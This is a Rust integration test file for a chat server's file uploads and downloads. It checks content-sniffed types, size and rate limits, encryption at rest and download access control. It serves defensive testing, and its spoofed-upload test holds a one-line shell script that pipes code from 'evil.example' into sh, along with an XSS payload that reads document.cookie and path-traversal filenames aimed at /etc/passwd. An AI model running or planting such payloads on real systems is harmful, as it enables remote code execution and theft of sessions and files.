@@ -1,0 +1,689 @@
+//! Uploads and downloads against the real server, with real files the test makes
+//! (a PNG with valid chunks and CRCs, a JPEG, a PDF): types decided from the
+//! content, spoofed types, size limits with and without `Content-Length`,
+//! path-like names, the rate limit and the quota, encryption at rest, who may
+//! download, byte ranges, and files attached to messages.
+
+mod common;
+
+use std::net::SocketAddr;
+use std::path::Path;
+
+use common::*;
+#[allow(unused_imports)]
+use serde_json as _;
+use serde_json::{json, Value};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
+// ---- files the test makes ----
+
+fn crc32(data: &[u8]) -> u32 {
+    let mut crc = 0xffff_ffffu32;
+    for &b in data {
+        crc ^= u32::from(b);
+        for _ in 0..8 {
+            crc = if crc & 1 != 0 {
+                (crc >> 1) ^ 0xedb8_8320
+            } else {
+                crc >> 1
+            };
+        }
+    }
+    !crc
+}
+
+fn adler32(data: &[u8]) -> u32 {
+    let (mut a, mut b) = (1u32, 0u32);
+    for &x in data {
+        a = (a + u32::from(x)) % 65521;
+        b = (b + a) % 65521;
+    }
+    (b << 16) | a
+}
+
+fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
+    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
+    let mut body = kind.to_vec();
+    body.extend_from_slice(data);
+    out.extend_from_slice(&body);
+    out.extend_from_slice(&crc32(&body).to_be_bytes());
+}
+
+/// A valid grey PNG of `w` x `h` pixels (zlib stored blocks, no compression), so
+/// its size follows its dimensions.
+fn png(w: u32, h: u32) -> Vec<u8> {
+    let mut raw = Vec::new();
+    for y in 0..h {
+        raw.push(0); // filter: none
+        raw.extend((0..w).map(|x| ((x * 7 + y * 13) % 256) as u8));
+    }
+    let mut z = vec![0x78, 0x01];
+    let blocks: Vec<&[u8]> = raw.chunks(65_535).collect();
+    for (i, block) in blocks.iter().enumerate() {
+        z.push(u8::from(i + 1 == blocks.len()));
+        let len = block.len() as u16;
+        z.extend_from_slice(&len.to_le_bytes());
+        z.extend_from_slice(&(!len).to_le_bytes());
+        z.extend_from_slice(block);
+    }
+    z.extend_from_slice(&adler32(&raw).to_be_bytes());
+    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
+    let mut ihdr = Vec::new();
+    ihdr.extend_from_slice(&w.to_be_bytes());
+    ihdr.extend_from_slice(&h.to_be_bytes());
+    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]); // 8-bit greyscale
+    png_chunk(&mut out, b"IHDR", &ihdr);
+    png_chunk(&mut out, b"IDAT", &z);
+    png_chunk(&mut out, b"IEND", &[]);
+    out
+}
+
+/// A JPEG's structure: SOI, a JFIF APP0 segment, a comment, EOI.
+fn jpeg() -> Vec<u8> {
+    let mut out = vec![0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10];
+    out.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
+    let comment = b"made by tests/files.rs";
+    out.extend_from_slice(&[0xff, 0xfe]);
+    out.extend_from_slice(&((comment.len() + 2) as u16).to_be_bytes());
+    out.extend_from_slice(comment);
+    out.extend_from_slice(&[0xff, 0xd9]);
+    out
+}
+
+/// A PDF with `filler` bytes of body text in its one stream.
+fn pdf(filler: usize) -> Vec<u8> {
+    let text: String = (0..filler)
+        .map(|i| (b'a' + (i * 31 % 26) as u8) as char)
+        .collect();
+    format!(
+        "%PDF-1.4\n1 0 obj << /Length {} >>\nstream\n{text}\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+        text.len()
+    )
+    .into_bytes()
+}
+
+// ---- raw HTTP with binary bodies ----
+
+struct Reply {
+    status: u16,
+    head: String,
+    body: Vec<u8>,
+}
+
+impl Reply {
+    fn json(&self) -> Value {
+        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
+    }
+    fn code(&self) -> String {
+        self.json()["error"]["code"]
+            .as_str()
+            .unwrap_or("")
+            .to_owned()
+    }
+    fn header(&self, name: &str) -> Option<String> {
+        let name = format!("{}:", name.to_ascii_lowercase());
+        self.head
+            .lines()
+            .find(|l| l.to_ascii_lowercase().starts_with(&name))
+            .map(|l| l[name.len()..].trim().to_owned())
+    }
+}
+
+async fn read_reply(mut s: TcpStream) -> Reply {
+    let mut raw = Vec::new();
+    tokio::time::timeout(WAIT, s.read_to_end(&mut raw))
+        .await
+        .expect("response in time")
+        .ok();
+    let end = raw
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .expect("a response head");
+    let head = String::from_utf8_lossy(&raw[..end]).into_owned();
+    let status = head
+        .split(' ')
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    let mut body = raw[end + 4..].to_vec();
+    if head
+        .to_ascii_lowercase()
+        .contains("transfer-encoding: chunked")
+    {
+        body = dechunk_bytes(&body);
+    }
+    Reply { status, head, body }
+}
+
+fn dechunk_bytes(mut rest: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    while let Some(i) = rest.windows(2).position(|w| w == b"\r\n") {
+        let n = usize::from_str_radix(std::str::from_utf8(&rest[..i]).unwrap().trim(), 16).unwrap();
+        if n == 0 {
+            break;
+        }
+        out.extend_from_slice(&rest[i + 2..i + 2 + n]);
+        rest = &rest[i + 4 + n..];
+    }
+    out
+}
+
+/// `POST /chatbox/upload` with `extra` header lines and a body sent whole.
+async fn post(addr: SocketAddr, token: Option<&str>, extra: &str, body: &[u8]) -> Reply {
+    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
+    let head = format!(
+        "POST /chatbox/upload{extra}Host: x\r\n{auth}Content-Length: {}\r\n\r\n",
+        body.len()
+    );
+    let mut s = TcpStream::connect(addr).await.unwrap();
+    s.write_all(head.as_bytes()).await.unwrap();
+    s.write_all(body).await.unwrap();
+    read_reply(s).await
+}
+
+/// A raw upload: `?name=` and a declared type the server must ignore.
+async fn upload_raw(
+    addr: SocketAddr,
+    token: &str,
+    name: &str,
+    declared: &str,
+    body: &[u8],
+) -> Reply {
+    let q: String = form_urlencoded::byte_serialize(name.as_bytes()).collect();
+    let extra = format!("?name={q} HTTP/1.1\r\nContent-Type: {declared}\r\n");
+    post(addr, Some(token), &extra, body).await
+}
+
+/// A multipart upload with one `file` part (and a field that is not a file).
+async fn upload_multipart(
+    addr: SocketAddr,
+    token: &str,
+    name: &str,
+    declared: &str,
+    data: &[u8],
+) -> Reply {
+    let b = "----chatbox-test-boundary";
+    let mut body = format!(
+        "--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n\
+         --{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
+         Content-Type: {declared}\r\n\r\n"
+    )
+    .into_bytes();
+    body.extend_from_slice(data);
+    body.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
+    let extra = format!(" HTTP/1.1\r\nContent-Type: multipart/form-data; boundary={b}\r\n");
+    post(addr, Some(token), &extra, &body).await
+}
+
+async fn fetch(addr: SocketAddr, token: Option<&str>, id: &str, extra: &str) -> Reply {
+    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
+    let req = format!("GET /chatbox/files/{id} HTTP/1.1\r\nHost: x\r\n{auth}{extra}\r\n");
+    let mut s = TcpStream::connect(addr).await.unwrap();
+    s.write_all(req.as_bytes()).await.unwrap();
+    read_reply(s).await
+}
+
+fn sha256_hex(data: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(data))
+}
+
+/// Every file under `dir`, recursively.
+fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return out;
+    };
+    for e in entries.flatten() {
+        let p = e.path();
+        if p.is_dir() {
+            out.extend(files_under(&p));
+        } else {
+            out.push(p);
+        }
+    }
+    out
+}
+
+fn admin() -> String {
+    token_with("agent-1", &["admin"], chatbox::auth::now_secs() + 3600)
+}
+
+// ---- item 1: the upload endpoint ----
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn uploads_are_typed_by_content_and_named_safely() {
+    let cfg = config();
+    let server = start(cfg.clone());
+    let addr = server.local_addr();
+    let alice = token("alice");
+
+    let image = png(40, 30);
+    let r = upload_raw(
+        addr,
+        &alice,
+        "screen shot.png",
+        "application/octet-stream",
+        &image,
+    )
+    .await;
+    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
+    let v = r.json();
+    assert_eq!(v["mime"], "image/png");
+    assert_eq!(v["size"], image.len());
+    assert_eq!(v["sha256"], sha256_hex(&image));
+    assert!(v["file_id"].as_str().unwrap().starts_with("f_"));
+    assert_eq!(v["name"], "screen shot.png");
+
+    // Multipart, declared as something else entirely: the content decides.
+    let r = upload_multipart(addr, &alice, "photo.gif", "image/gif", &jpeg()).await;
+    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
+    assert_eq!(r.json()["mime"], "image/jpeg");
+    let doc = pdf(3000);
+    let r = upload_multipart(addr, &alice, "invoice.pdf", "text/plain", &doc).await;
+    assert_eq!(r.status, 201);
+    assert_eq!(r.json()["mime"], "application/pdf");
+    assert_eq!(r.json()["sha256"], sha256_hex(&doc));
+
+    // Spoofed: a script named .png, HTML declared image/png, plain text.
+    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n";
+    let r = upload_multipart(addr, &alice, "cute-cat.png", "image/png", script).await;
+    assert_eq!(
+        (r.status, r.code().as_str()),
+        (415, "unsupported_media_type")
+    );
+    let html = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>";
+    let r = upload_raw(addr, &alice, "x.png", "image/png", html).await;
+    assert_eq!(r.status, 415);
+    assert!(r.json()["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("image/png"));
+    let r = upload_raw(addr, &alice, "empty.png", "image/png", b"").await;
+    assert_eq!(r.status, 400);
+
+    // Path-like names are kept only as a base name, never as a path.
+    for (raw, shown) in [
+        ("../../../etc/passwd.png", "passwd.png"),
+        ("..\\..\\win.ini.png", "win.ini.png"),
+        ("/tmp/x/../a.png", "a.png"),
+    ] {
+        let r = upload_multipart(addr, &alice, raw, "image/png", &png(2, 2)).await;
+        assert_eq!(r.status, 201);
+        assert_eq!(r.json()["name"], shown, "{raw}");
+    }
+    assert!(!cfg.data_dir.join("etc").exists());
+    for f in files_under(&cfg.data_dir.join("files")) {
+        let name = f.file_name().unwrap().to_string_lossy().into_owned();
+        assert!(name.starts_with("f_") && name.ends_with(".cbf"), "{name}");
+    }
+
+    // Tokens: none, or a bad one, is 401; an admin may upload too.
+    let r = post(addr, None, " HTTP/1.1\r\n", &png(2, 2)).await;
+    assert_eq!((r.status, r.code().as_str()), (401, "unauthorized"));
+    let r = post(addr, Some("not-a-jwt"), " HTTP/1.1\r\n", &png(2, 2)).await;
+    assert_eq!(r.status, 401);
+    let r = upload_raw(addr, &admin(), "a.png", "image/png", &png(3, 3)).await;
+    assert_eq!(r.status, 201);
+    server.shutdown();
+    stop(server).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn oversize_uploads_are_refused_with_and_without_content_length() {
+    let cfg = chatbox::Config {
+        upload_bytes_max: 100_000,
+        ..config()
+    };
+    let server = start(cfg.clone());
+    let addr = server.local_addr();
+    let t = token("bob");
+
+    // Content-Length over the limit: 413 without a byte of the body sent (the
+    // server answers; the client never sends it).
+    for declared in [100_001u64, 50_000_000] {
+        let mut s = TcpStream::connect(addr).await.unwrap();
+        let head = format!(
+            "POST /chatbox/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t}\r\n\
+             Content-Length: {declared}\r\n\r\n"
+        );
+        s.write_all(head.as_bytes()).await.unwrap();
+        let r = read_reply(s).await;
+        assert_eq!(
+            (r.status, r.code().as_str()),
+            (413, "payload_too_large"),
+            "{declared}"
+        );
+    }
+
+    // No Content-Length (chunked): refused once the stream passes the limit.
+    let big = png(400, 300); // 120 kB
+    assert!(big.len() > 100_000);
+    let mut s = TcpStream::connect(addr).await.unwrap();
+    let head = format!(
+        "POST /chatbox/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t}\r\n\
+         Transfer-Encoding: chunked\r\n\r\n"
+    );
+    s.write_all(head.as_bytes()).await.unwrap();
+    for part in big.chunks(16 * 1024) {
+        s.write_all(format!("{:x}\r\n", part.len()).as_bytes())
+            .await
+            .unwrap();
+        s.write_all(part).await.unwrap();
+        s.write_all(b"\r\n").await.unwrap();
+    }
+    s.write_all(b"0\r\n\r\n").await.unwrap();
+    let r = read_reply(s).await;
+    assert_eq!((r.status, r.code().as_str()), (413, "payload_too_large"));
+    // Multipart over the limit, too.
+    let r = upload_multipart(addr, &t, "big.png", "image/png", &big).await;
+    assert_eq!(r.status, 413);
+
+    // Under the limit, chunked works; nothing of the refused ones was kept.
+    let small = png(100, 100);
+    let mut s = TcpStream::connect(addr).await.unwrap();
+    s.write_all(head.as_bytes()).await.unwrap();
+    s.write_all(format!("{:x}\r\n", small.len()).as_bytes())
+        .await
+        .unwrap();
+    s.write_all(&small).await.unwrap();
+    s.write_all(b"\r\n0\r\n\r\n").await.unwrap();
+    let r = read_reply(s).await;
+    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
+    server.shutdown();
+    stop(server).await;
+    let kept = files_under(&cfg.data_dir.join("files"));
+    assert_eq!(kept.len(), 1, "{kept:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn uploads_are_rate_limited_and_count_against_a_quota() {
+    let cfg = chatbox::Config {
+        upload_rate_limit_per_minute: 2,
+        upload_quota_bytes: 30_000,
+        ..config()
+    };
+    let server = start(cfg);
+    let addr = server.local_addr();
+
+    // Two cores, two per minute each: five in a row cannot all pass.
+    let t = token("carol");
+    let mut statuses = Vec::new();
+    for _ in 0..5 {
+        let r = upload_raw(addr, &t, "a.png", "image/png", &png(4, 4)).await;
+        if r.status == 429 {
+            assert_eq!(r.code(), "rate_limited");
+            assert!(r.header("retry-after").is_some());
+        }
+        statuses.push(r.status);
+    }
+    assert!(statuses.contains(&429), "{statuses:?}");
+
+    // 20 kB fits in 30 kB; another 20 kB does not; a small one still does.
+    let d = token("dave");
+    let r = upload_raw(addr, &d, "a.png", "image/png", &png(140, 140)).await;
+    assert_eq!(r.status, 201);
+    let r = upload_raw(addr, &d, "b.png", "image/png", &png(140, 140)).await;
+    assert_eq!((r.status, r.code().as_str()), (413, "quota_exceeded"));
+    let r = upload_raw(addr, &token("erin"), "b.png", "image/png", &png(140, 140)).await;
+    assert_eq!(r.status, 201, "another user's quota is their own");
+    server.shutdown();
+    stop(server).await;
+}
+
+// ---- item 2: encrypted at rest ----
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_are_encrypted_at_rest_and_recorded() {
+    let cfg = config();
+    let server = start(cfg.clone());
+    let addr = server.local_addr();
+    let doc = pdf(300_000); // several chunks
+    let r = upload_raw(
+        addr,
+        &token("fred"),
+        "secret plans.pdf",
+        "application/pdf",
+        &doc,
+    )
+    .await;
+    assert_eq!(r.status, 201);
+    let id = r.json()["file_id"].as_str().unwrap().to_owned();
+    server.shutdown();
+    stop(server).await;
+
+    let stored = files_under(&cfg.data_dir.join("files"));
+    assert_eq!(stored.len(), 1, "{stored:?}");
+    let bytes = std::fs::read(&stored[0]).unwrap();
+    assert!(
+        bytes.len() > doc.len(),
+        "sealed chunks carry nonces and tags"
+    );
+    for probe in [&doc[..5], &doc[1000..1032], &doc[200_000..200_032]] {
+        assert!(
+            !bytes.windows(probe.len()).any(|w| w == probe),
+            "plaintext on disk"
+        );
+    }
+    let rec = tokio::task::spawn_blocking(move || {
+        let (rt, store) = open_store(&cfg);
+        let rec = futures_block(store.file(&id));
+        drop(store);
+        rt.shutdown(std::time::Duration::from_secs(5));
+        rec
+    })
+    .await
+    .unwrap()
+    .unwrap()
+    .expect("a record");
+    assert_eq!(rec.owner, "fred");
+    assert_eq!(rec.mime, "application/pdf");
+    assert_eq!(rec.size, doc.len() as u64);
+    assert_eq!(rec.sha256, sha256_hex(&doc));
+    assert_eq!(rec.name.as_deref(), Some("secret plans.pdf"));
+    assert_eq!(rec.location, "local");
+}
+
+fn futures_block<T>(f: chatbox::store::StoreFuture<T>) -> Result<T, chatbox::store::StoreError> {
+    tokio::runtime::Builder::new_current_thread()
+        .build()
+        .unwrap()
+        .block_on(f)
+}
+
+// ---- item 3: downloads ----
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn owners_and_admins_download_everyone_else_gets_404() {
+    let server = start(config());
+    let addr = server.local_addr();
+    let gina = token("gina");
+    let doc = pdf(150_000); // three chunks
+    let r = upload_raw(addr, &gina, "../report \"Q3\".pdf", "image/png", &doc).await;
+    assert_eq!(r.status, 201);
+    let id = r.json()["file_id"].as_str().unwrap().to_owned();
+
+    let r = fetch(addr, Some(&gina), &id, "").await;
+    assert_eq!(r.status, 200);
+    assert_eq!(r.body, doc);
+    assert_eq!(r.header("content-type").as_deref(), Some("application/pdf"));
+    assert_eq!(
+        r.header("x-content-type-options").as_deref(),
+        Some("nosniff")
+    );
+    assert_eq!(
+        r.header("content-security-policy").as_deref(),
+        Some("default-src 'none'; sandbox")
+    );
+    let disposition = r.header("content-disposition").unwrap();
+    assert!(
+        disposition.starts_with("attachment; filename=\"report Q3.pdf\""),
+        "{disposition}"
+    );
+    assert_eq!(r.header("accept-ranges").as_deref(), Some("bytes"));
+    let r = fetch(addr, Some(&admin()), &id, "").await;
+    assert_eq!(r.status, 200, "an admin may download");
+    assert_eq!(r.body, doc);
+
+    // Another user: exactly what a file that does not exist looks like.
+    let other = fetch(addr, Some(&token("hank")), &id, "").await;
+    let missing = fetch(addr, Some(&gina), "f_00000000000000000000000000", "").await;
+    assert_eq!((other.status, missing.status), (404, 404));
+    assert_eq!(other.body, missing.body);
+    for weird in ["..%2F..%2Fchatbox.db", "%00", "a%2Fb"] {
+        assert_eq!(
+            fetch(addr, Some(&gina), weird, "").await.status,
+            404,
+            "{weird}"
+        );
+    }
+    assert_eq!(fetch(addr, None, &id, "").await.status, 401);
+
+    // Ranges: inside one chunk, across a chunk boundary, the tail; outside: 416.
+    for (range, first, last) in [
+        ("bytes=10-19", 10usize, 19usize),
+        ("bytes=65530-65545", 65_530, 65_545),
+        ("bytes=-100", doc.len() - 100, doc.len() - 1),
+        ("bytes=140000-", 140_000, doc.len() - 1),
+    ] {
+        let r = fetch(addr, Some(&gina), &id, &format!("Range: {range}\r\n")).await;
+        assert_eq!(r.status, 206, "{range}");
+        assert_eq!(r.body, &doc[first..=last], "{range}");
+        assert_eq!(
+            r.header("content-range"),
+            Some(format!("bytes {first}-{last}/{}", doc.len())),
+            "{range}"
+        );
+    }
+    let r = fetch(addr, Some(&gina), &id, "Range: bytes=999999-\r\n").await;
+    assert_eq!(r.status, 416);
+    assert_eq!(
+        r.header("content-range"),
+        Some(format!("bytes */{}", doc.len()))
+    );
+    server.shutdown();
+    stop(server).await;
+}
+
+// ---- item 4: file messages ----
+
+/// Frames until `kind`, all of them (that one last).
+async fn frames_until(ws: &mut Ws, kind: &str) -> Vec<Value> {
+    let (last, mut before) = until(ws, kind).await;
+    before.push(last);
+    before
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn file_messages_attach_the_users_own_files_to_sessions() {
+    use chatbox::config::LlmProvider;
+    use common::fake_llm;
+    let answer = fake_llm::stream(fake_llm::openai_events(&["Looks", " fine"], None), 0);
+    let fake = fake_llm::Fake::start(vec![answer]).await;
+    let cfg = fake_llm::with_models(vec![fake_llm::model("m", LlmProvider::Openai, &fake)]);
+    let data_dir = cfg.data_dir.clone();
+    let server = start(cfg);
+    let addr = server.local_addr();
+    let image = png(64, 48);
+    let r = upload_raw(addr, &token("ivy"), "error dialog.png", "image/png", &image).await;
+    let fid = r.json()["file_id"].as_str().unwrap().to_owned();
+    let r = upload_raw(addr, &token("jack"), "j.png", "image/png", &png(5, 5)).await;
+    let jacks = r.json()["file_id"].as_str().unwrap().to_owned();
+    let expected = json!({"file_id": fid, "mime": "image/png", "size": image.len(), "name": "error dialog.png"});
+
+    // Someone else's file, and no file at all: the same not_found.
+    let mut ws = connect_user(addr, "ivy").await;
+    for (other, id) in [(jacks.as_str(), "x1"), ("f_nope", "x2")] {
+        send(
+            &mut ws,
+            json!({"type": "file_message", "file_id": other, "id": id}),
+        )
+        .await;
+        let e = until(&mut ws, "error").await.0;
+        assert_eq!(
+            (e["code"].as_str(), e["id"].as_str()),
+            (Some("not_found"), Some(id))
+        );
+    }
+
+    // Its own file: a new session, acked, answered; the model is told in words.
+    let m = json!({"type": "file_message", "file_id": fid, "content": "what does this mean?", "id": "c1"});
+    send(&mut ws, m).await;
+    let seen = frames_until(&mut ws, "ai_done").await;
+    let sid = seen.iter().find(|f| f["type"] == "session").unwrap()["session_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert!(
+        seen.iter().any(|f| f["type"] == "ack" && f["id"] == "c1"),
+        "{seen:?}"
+    );
+    let told = fake.requests()[0].body["messages"]
+        .as_array()
+        .unwrap()
+        .last()
+        .unwrap()["content"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    for part in ["error dialog.png", "image/png", "what does this mean?"] {
+        assert!(told.contains(part), "{told}");
+    }
+
+    // An admin in the session sees the next one with its file.
+    let mut a = connect(addr, "/ws", Some(&admin()), None).await.unwrap();
+    send(&mut a, json!({"type": "admin_join", "session_id": sid})).await;
+    until(&mut ws, "admin_joined").await;
+    let m = json!({"type": "file_message", "session_id": sid, "file_id": fid, "id": "c2"});
+    send(&mut ws, m).await;
+    let relay = until(&mut a, "user_message").await.0;
+    assert_eq!(relay["file"], expected);
+    assert_eq!(relay["content"], "");
+    let ack = until(&mut ws, "ack").await.0;
+    assert_eq!(ack["id"], "c2");
+
+    // History on resume, and the admin transcript and export, carry the file.
+    let mut again = connect_user(addr, "ivy").await;
+    send(&mut again, json!({"type": "resume", "session_id": sid})).await;
+    let history = until(&mut again, "session").await.0["messages"].clone();
+    let with_file: Vec<&Value> = history
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["file"] == expected)
+        .collect();
+    assert_eq!(with_file.len(), 2, "{history}");
+    assert_eq!(with_file[0]["content"], "what does this mean?");
+    assert_eq!(with_file[0]["role"], "user");
+    let (status, transcript) = admin_call(addr, "GET", &format!("/sessions/{sid}"), &admin()).await;
+    assert_eq!(status, 200);
+    let files: Vec<&Value> = transcript["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|m| m.get("file"))
+        .collect();
+    assert_eq!(files, [&expected, &expected]);
+    let (status, export) = admin_call(addr, "GET", "/users/ivy/export", &admin()).await;
+    assert_eq!(status, 200);
+    assert!(export.to_string().contains(&fid), "{export}");
+    // The admin fetches what the transcript names.
+    let r = fetch(addr, Some(&admin()), &fid, "").await;
+    assert_eq!((r.status, r.body), (200, image));
+
+    // Deleting the user deletes their files, bytes and records; not jack's.
+    let on_disk = |id: &str| {
+        files_under(&data_dir.join("files"))
+            .iter()
+            .any(|p| p.to_string_lossy().contains(id))
+    };
+    assert!(on_disk(&fid));
+    let (status, _) = admin_call(addr, "DELETE", "/users/ivy", &admin()).await;
+    assert_eq!(status, 200);
+    assert!(!on_disk(&fid), "the bytes are gone");
+    assert_eq!(fetch(addr, Some(&admin()), &fid, "").await.status, 404);
+    assert!(on_disk(&jacks));
+    server.shutdown();
+    stop(server).await;
+}
